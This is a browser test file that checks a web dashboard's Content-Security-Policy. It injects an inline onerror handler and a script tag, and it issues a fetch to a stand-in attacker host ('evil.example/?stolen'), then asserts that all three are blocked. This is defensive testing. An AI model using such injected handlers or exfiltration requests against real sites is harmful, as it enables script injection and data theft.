"""The Content-Security-Policy in a browser: it stops what an attacker adds, and nothing of Segue's own."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page

from tests.dashboard.browser import Player, Served, needs_chromium, settle
from tests.dashboard.test_accessible_browser import PAGES
from tests.waiting import until

pytestmark = needs_chromium
_WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
  const where = `${event.sourceFile}:${event.lineNumber}`;
  (window.__violations ??= []).push(`${event.violatedDirective} ${event.blockedURI} ${where}`);
})"""
_PAGES = ("home", "search", "albums", "map", "you", "listening", "operations", "audience", "track")


def violations(page: Page) -> Any:
    return page.evaluate("window.__violations ?? []")


def test_no_page_breaks_the_policy(visited: Served, page: Page) -> None:
    page.add_init_script(_WATCH)
    found = {}
    for name in _PAGES:
        page.goto(visited.address + PAGES[name])
        settle(page)
        if broken := violations(page):
            found[name] = broken
    assert found == {}


def test_songs_play_and_what_an_attacker_adds_does_not_run(visited: Served, page: Page) -> None:
    page.add_init_script(_WATCH)
    page.goto(visited.address)
    settle(page)
    player = Player(page)
    player.play(player.cards()[0])
    player.wait_playing()
    assert violations(page) == []
    page.evaluate("""() => {
      document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.ran = 1'>");
      const script = document.createElement("script");
      script.textContent = "window.ran = 2";
      document.body.append(script);
    }""")
    with pytest.raises(Exception, match="Failed to fetch"):
        page.evaluate("fetch('https://evil.example/?stolen')")
    until(lambda: len(violations(page)) >= 3, "three violations to be reported")
    kinds = {text.partition(" ")[0] for text in violations(page)}
    assert kinds == {"script-src-attr", "script-src-elem", "connect-src"}
    assert page.evaluate("window.ran ?? null") is None
